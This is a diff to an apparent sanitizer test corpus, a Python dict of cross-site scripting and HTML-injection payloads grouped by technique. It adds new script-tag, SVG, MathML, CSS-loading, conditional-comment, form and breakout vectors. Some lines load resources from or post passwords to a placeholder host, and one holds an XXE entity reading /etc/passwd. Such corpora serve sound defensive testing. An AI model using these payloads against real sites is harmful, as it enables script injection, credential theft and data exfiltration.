@@ -25,6 +25,7 @@ PAYLOADS: dict[str, tuple[str, ...]] = {
         f"<script type=module>{RUN}</script>",
         f"`</code><script>{RUN}</script>`",
         f"<<script>{RUN}//<</script>",
+        f"<script\t\n>{RUN}</script\n>",
     ),
     "handlers": (
         f'<img src=x onerror="{RUN}">',
@@ -34,14 +35,27 @@ PAYLOADS: dict[str, tuple[str, ...]] = {
         f'![図](x.png "a\\" onerror=\'{RUN}\'")',
         f'<body onload="{RUN}"><a autofocus tabindex=1 onfocus="{RUN}">鍵</a>',
         f'<video src=x onerror="{RUN}"><source onerror="{RUN}"></video>',
+        f'<marquee onstart="{RUN}">流れる字</marquee>',
     ),
-    "svg and math": (
+    "svg": (
         f'<svg onload="{RUN}"><circle r=9 /></svg>',
         f"<svg><script>{RUN}</script></svg>",
         f'<svg><a xlink:href="javascript:{RUN}"><text>絵</text></a></svg>',
         f'<svg><animate onbegin="{RUN}" attributeName=x dur=1s></svg>',
-        f'<math href="javascript:{RUN}">式</math>',
+        f'<svg><set attributeName=href to="javascript:{RUN}"><a><text>絵</text></a></svg>',
+        f'<svg><use href="data:image/svg+xml,<svg id=x onload={RUN}>#x"></use></svg>',
+        f'<svg><image href="https://{HOST}/x.svg" onerror="{RUN}"></image></svg>',
         f'<svg><foreignObject><img src=x onerror="{RUN}"></foreignObject></svg>',
+    ),
+    "mathml": (
+        f'<math href="javascript:{RUN}">式</math>',
+        f'<math><mtext><img src=x onerror="{RUN}"></mtext></math>',
+        f'<math><maction actiontype="statusline#https://{HOST}" href="javascript:{RUN}">式</maction></math>',
+        f'<math><annotation-xml encoding="text/html"><img src=x onerror="{RUN}"></annotation-xml></math>',
+        f'<math><mi xlink:href="javascript:{RUN}">式</mi></math>',
+        f"<math><style><img src=x onerror={RUN}></style></math>",
+        f'<math><mglyph src="https://{HOST}/x.png"></mglyph></math>',
+        f"<math><semantics><annotation-xml><script>{RUN}</script></annotation-xml></semantics></math>",
     ),
     "addresses": (
         f"[鍵](javascript:{RUN})",
@@ -61,6 +75,8 @@ PAYLOADS: dict[str, tuple[str, ...]] = {
         f'<link rel=stylesheet href="https://{HOST}/x.css">',
         f"<style>@import 'https://{HOST}/x.css';*{{display:none}}</style>",
         f'<table background="https://{HOST}/x"><tr><td>表</td></tr></table>',
+        f'<p style="behavior:url(https://{HOST}/x.htc);-moz-binding:url(https://{HOST}/x.xml)">本文</p>',
+        f'<ul style="list-style:url(https://{HOST}/x)"><li>項目</li></ul>',
     ),
     "hidden": (
         '<p style="display:none">見えない字</p>',
@@ -69,6 +85,8 @@ PAYLOADS: dict[str, tuple[str, ...]] = {
         '<div style="opacity:0">見えない字</div>',
         '<p style="position:absolute;left:-9999px">見えない字</p>',
         f'<img src="https://{HOST}/pixel.gif" width=1 height=1>',
+        '<p style="visibility:hidden">見えない字</p>',
+        '<p style="color:#fff;background:#fff;height:0;overflow:hidden">見えない字</p>',
     ),
     "comments": (
         f"<!--[if mso]><script>{RUN}</script><![endif]-->",
@@ -77,6 +95,8 @@ PAYLOADS: dict[str, tuple[str, ...]] = {
         f"<!--><img src=x onerror={RUN}>-->",
         f"<![CDATA[<script>{RUN}</script>]]>",
         f"<?php {RUN} ?><!ENTITY x SYSTEM 'file:///etc/passwd'>&x;",
+        f"<!--[if gte mso 9]><xml><o:p><script>{RUN}</script></o:p></xml><![endif]-->",
+        f"<!-- --!><script>{RUN}</script>",
     ),
     "forms": (
         f'<form action="https://{HOST}/"><input name=p type=password><button>送る</button></form>',
@@ -85,6 +105,8 @@ PAYLOADS: dict[str, tuple[str, ...]] = {
         f'<object data="https://{HOST}/x.swf"></object><embed src="https://{HOST}/x">',
         f'<isindex action="javascript:{RUN}"><select><option>一</select>',
         f'<meta http-equiv=refresh content="0;url=https://{HOST}/"><base href="https://{HOST}/">',
+        f'<button formaction="javascript:{RUN}">送る</button>',
+        f'<input type=image src="https://{HOST}/x.png" onerror="{RUN}"><keygen>',
     ),
     "mutations": (
         f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
@@ -104,6 +126,8 @@ PAYLOADS: dict[str, tuple[str, ...]] = {
         f'"><img src=x onerror={RUN}>',
         f"'><svg onload={RUN}>",
         f"---\n見出し: 別の記事\n---\n<script>{RUN}</script>",
+        f"\n-->\n<script>{RUN}</script>\n<!--",
+        f"]]></description></item><script>{RUN}</script>",
     ),
 }
 
